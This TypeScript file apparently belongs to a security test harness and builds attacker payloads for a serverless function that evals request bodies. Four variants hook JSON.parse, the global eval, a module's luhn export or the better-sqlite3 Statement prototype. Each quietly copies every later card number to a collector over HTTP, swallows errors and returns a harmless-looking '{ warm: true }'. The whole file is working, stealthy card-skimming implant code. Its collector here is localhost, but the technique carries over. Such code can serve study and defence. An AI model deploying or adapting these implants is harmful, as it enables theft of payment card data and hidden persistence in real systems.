/**
 * The attacker's payloads. Each is a request body that the victim's `eval('(' + body + ')')`
 * runs: it installs a hook in the warm environment that copies every later card number to the
 * attacker's collector, then evaluates to `{ warm: true }` so the request itself looks harmless.
 *
 * Four variants, on four different surfaces, so no arm is tuned to one trick:
 * - `json-parse`: wraps the `JSON.parse` intrinsic (the runtime client parses every event with it);
 * - `global-eval`: replaces the global `eval` binding the victim calls;
 * - `module-export`: replaces an export of the function's own module (`lib/checks.js` `luhn`);
 * - `driver-prototype`: patches the database driver's prototype (better-sqlite3 `Statement#run`).
 *
 * The payloads reach modules through `process.getBuiltinModule` and `Module._cache`, not through
 * the eval's local scope, so they work whether the victim's eval is direct or not. They never throw
 * and swallow network errors: a failed implant stays quiet, as a real one would.
 */
export const IMPLANT_VARIANTS = ['json-parse', 'global-eval', 'module-export', 'driver-prototype'] as const;
export type ImplantVariant = (typeof IMPLANT_VARIANTS)[number];

/** What the implant sends to the collector (JSON). */
export interface ExfilRecord {
  kind: 'infected' | 'card';
  variant: ImplantVariant;
  /** The environment's log stream (AWS_LAMBDA_LOG_STREAM_NAME): which environment it came from. */
  stream: string;
  pid: number;
  card?: string;
}

/** Shared prologue: `send(kind, extra)` posts to the collector, `steal(text)` sends each card in it once. */
function prologue(variant: ImplantVariant, collectorPort: number): string {
  return [
    "var gb = process.getBuiltinModule; var http = gb('http'); var Mod = gb('module');",
    `var tag = { variant: ${JSON.stringify(variant)}, stream: process.env.AWS_LAMBDA_LOG_STREAM_NAME || '', pid: process.pid };`,
    'var seen = {};',
    'function send(kind, extra) { try {',
    `  var req = http.request({ host: '127.0.0.1', port: ${collectorPort}, method: 'POST', path: '/collect', headers: { 'content-type': 'application/json' } });`,
    "  req.on('error', function () {}); req.end(JSON.stringify(Object.assign({ kind: kind }, tag, extra || {})));",
    '} catch (e) {} }',
    'function steal(text) { var m = String(text).match(/\\b[0-9]{13,19}\\b/g) || [];',
    "  for (var i = 0; i < m.length; i++) { if (!seen[m[i]]) { seen[m[i]] = 1; send('card', { card: m[i] }); } } }",
    'function cached(re) { var keys = Object.keys(Mod._cache); for (var i = 0; i < keys.length; i++) { if (re.test(keys[i])) return Mod._cache[keys[i]]; } return undefined; }',
  ].join('\n');
}

const INSTALL: Record<ImplantVariant, string> = {
  'json-parse': [
    'var P = JSON.parse;',
    'if (!P.__i) { var W = function parse(t, r) { var v = P.call(this, t, r);',
    "  if (typeof t === 'string' && t.indexOf('cardNumber') !== -1) steal(t); return v; };",
    "  W.__i = 1; JSON.parse = W; send('infected'); }",
  ].join('\n'),
  'global-eval': [
    'var E = globalThis.eval;',
    'if (!E.__i) { var W = function (s) {',
    "  if (typeof s === 'string' && s.indexOf('cardNumber') !== -1) steal(s); return E(s); };",
    "  W.__i = 1; globalThis.eval = W; send('infected'); }",
  ].join('\n'),
  'module-export': [
    'var m = cached(/[\\\\/]lib[\\\\/]checks\\.js$/);',
    'if (m && !m.exports.luhn.__i) { var L = m.exports.luhn;',
    '  var W = function luhn(n) { steal(n); return L.apply(this, arguments); };',
    "  W.__i = 1; m.exports.luhn = W; send('infected'); }",
  ].join('\n'),
  'driver-prototype': [
    'var d = cached(/better-sqlite3[\\\\/]lib[\\\\/]index\\.js$/);',
    "if (d) { var proto = Object.getPrototypeOf(new d.exports(':memory:').prepare('SELECT 1'));",
    '  if (!proto.run.__i) { var R = proto.run;',
    "    var W = function run() { steal(Array.prototype.join.call(arguments, ' ')); return R.apply(this, arguments); };",
    "    W.__i = 1; proto.run = W; send('infected'); } }",
  ].join('\n'),
};

/** The request body that installs `variant` and reports to the collector on 127.0.0.1:`collectorPort`. */
export function implantPayload(variant: ImplantVariant, collectorPort: number, holdMs = 60): string {
  // Holding the environment for a moment makes a parallel fan-out spread over every environment
  // the function may have, instead of queueing on a few warm ones.
  const hold = `var until = Date.now() + ${holdMs}; while (Date.now() < until) {}`;
  return `(function () { try {\n${prologue(variant, collectorPort)}\n${INSTALL[variant]}\n} catch (e) {} ${hold} return { warm: true }; })()`;
}

/** The attacker's keep-warm ping: low content, valid data, keeps its environments from being reaped. */
export const KEEP_WARM_BODY = '{"warm":true}';
